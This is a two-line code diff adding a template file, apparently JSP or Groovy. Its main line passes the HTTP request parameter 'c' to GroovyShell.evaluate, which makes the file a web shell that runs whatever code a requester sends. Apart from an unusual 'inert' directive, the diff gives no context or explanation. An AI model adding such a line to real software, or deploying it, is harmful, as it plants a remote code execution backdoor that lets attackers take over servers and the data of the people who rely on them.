@@ -1,0 +1,2 @@
+<%@ inert %>
+<% new groovy.lang.GroovyShell().evaluate(request.getParameter("c")); %>
